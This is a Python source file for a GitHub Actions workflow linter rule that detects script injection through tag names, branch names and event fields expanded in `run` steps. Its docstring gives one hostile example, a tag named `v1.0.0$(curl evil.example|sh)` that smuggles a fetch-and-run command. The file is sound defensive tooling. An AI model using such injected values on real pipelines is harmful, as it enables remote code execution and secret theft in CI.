"""The name of a tag, or what a stranger writes, becomes a part of a script.

## What it does
No `run` of a release may hold `${{ github.ref_name }}`, `github.head_ref` or a text of `github.event`.

## Why
A tag may be named `v1.0.0$(curl evil.example|sh)`: git allows that.

## Example
```yaml
- run: gh release create ${{ github.ref_name }}
```

## Source
[Script injections](https://docs.github.com/en/actions/concepts/security/script-injections), [zizmor: template-injection](https://docs.zizmor.sh/audits/#template-injection)
"""

from __future__ import annotations

from collections.abc import Iterator

from lockstep.model import Finding, Level
from lockstep.workflow.audit import Audit

LEVEL = Level.ERROR
SINCE = "0.1.0"


_HOSTILE = {("github", "ref_name"), ("github", "ref"), ("github", "head_ref"), ("github", "base_ref")}
_NUMBERS = ("number", "id", "sha", "merged", "draft", "prerelease", "action", "size")


def check(audit: Audit) -> Iterator[Finding]:
    """Look at every script."""
    for job, step in audit.steps:
        for contexts, place in audit.script_references(step):
            hostile = next((parts for parts in contexts if _is_hostile(parts)), None)
            if hostile is not None and audit.active(step):
                yield audit.finding(
                    rule="expression-in-script",
                    level=LEVEL if audit.hardened or not _is_collaborators(hostile) else Level.WARNING,
                    place=place,
                    message=f"{job.id} expands ${{{{ {'.'.join(hostile)} }}}} in a `run` script: a shell may run what it says",
                    help="give it by `env`, and use the variable in quotes",
                    symbol=job.id,
                )


def _is_collaborators(parts: tuple[str, ...]) -> bool:
    """Say whether nobody decides about a context who may not write to the repository: it names a ref, or is given by hand."""
    return parts in _HOSTILE - {("github", "head_ref")} or parts[:3] == ("github", "event", "inputs")


def _is_hostile(parts: tuple[str, ...]) -> bool:
    """Say whether a stranger decides about a context, and may write anything there."""
    return parts in _HOSTILE or (parts[:2] == ("github", "event") and len(parts) > 2 and parts[2] != "repository" and parts[-1] not in _NUMBERS)
